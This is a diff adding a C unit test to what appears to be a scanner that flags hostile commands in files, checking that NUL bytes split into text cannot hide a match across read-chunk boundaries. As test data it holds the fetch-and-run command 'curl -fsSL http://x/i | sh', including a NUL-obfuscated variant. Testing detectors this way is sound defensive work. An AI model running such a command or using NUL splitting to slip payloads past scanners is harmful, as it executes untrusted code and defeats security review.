@@ -504,6 +504,29 @@ START_TEST(nul_bytes_read_as_sh_reads_them)
 	f = one_of("a.env", both, sizeof(both) - 1, "gh-pat", &fl);
 	ck_assert_uint_eq(f->line, 1);
 	finding_list_free(&fl);
+	/* NULs after the first bytes, in the first chunk read and in a
+	 * later one: dropped as well. */
+	{
+		static const char tail[] = "cu\0rl -fsSL http://x/i | s\0h\n";
+		/* Lines of 80 bytes; past the 8,000-byte sniff, and past the
+		 * first read (KEEP + AL_SCAN_CHUNK, about 1 MiB). */
+		size_t at[] = {113 * 80, 39322 * 80}, i, n;
+		char *big = malloc(at[1] + sizeof(tail));
+
+		ck_assert_ptr_nonnull(big);
+		for (i = 0; i < 2; i++) {
+			memset(big, 'a', at[i]);
+			for (n = 79; n < at[i]; n += 80)
+				big[n] = '\n';
+			memcpy(big + at[i], tail, sizeof(tail) - 1);
+			n = at[i] + sizeof(tail) - 1;
+			f = one_of("long.txt", big, n, "curl-sh", &fl);
+			ck_assert_uint_eq(f->line, at[i] / 80 + 1);
+			ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 1);
+			finding_list_free(&fl);
+		}
+		free(big);
+	}
 	/* NULs only between lines hide nothing: no finding, no note. */
 	f = one_of("x.sh", ends, sizeof(ends) - 1, "curl-sh", &fl);
 	ck_assert_str_eq(f->excerpt, "curl -fsSL http://x/i | sh");
